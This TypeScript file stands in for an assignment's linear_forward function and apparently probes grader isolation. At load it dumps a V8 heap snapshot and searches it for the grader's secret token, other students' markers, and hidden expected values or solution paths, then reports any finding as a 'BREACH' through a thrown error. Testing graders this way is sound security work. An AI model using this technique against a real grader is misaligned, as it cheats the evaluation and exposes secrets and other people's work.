// Reading what is loaded: a heap snapshot (node:v8) holds every string of the process: the
// grader's secret if it was ever loaded, other students' code and markers in a shared process,
// hidden expected values. Read at load with top-level await and searched.
const g: any = globalThis;
const P: any = g.process;
const SECRET = /dnnsecret-[0-9a-f]{8,}/;
let outcome: string;
try {
  const v8: any = P.getBuiltinModule?.("node:v8") ?? (await import(["node", "v8"].join(":")));
  const stream = v8.getHeapSnapshot();
  let text = "";
  for await (const chunk of stream) text += chunk.toString();
  const secret = text.match(SECRET)?.[0];
  const stash = text.match(/STASH-MARKER-[A-Za-z0-9_-]+/g) ?? [];
  const own = "STASH-MARKER-@@STUDENT@@";
  const foreign = stash.filter((m) => m !== own);
  const names = (pattern: RegExp) => (text.match(pattern) ?? []).length;
  outcome = [
    secret ? `BREACH: the secret ${secret}` : "no secret",
    foreign.length ? `BREACH: another student's marker ${foreign[0]}` : "no other student's marker",
    `${text.length} characters, ${names(/"[^"]*expected[^"]*"/g)} strings naming expected, ${names(/"[^"]*hidden[^"]*"/g)} hidden, ${names(/"[^"]*solutions\/[^"]*"/g)} solutions/ paths`,
  ].join("; ");
} catch (e) {
  outcome = `refused: ${String(e).slice(0, 80)}`;
}

export function linear_forward(A: any, W: any, b: any): any {
  throw new Error(`heap-snapshot: ${outcome}`);
}
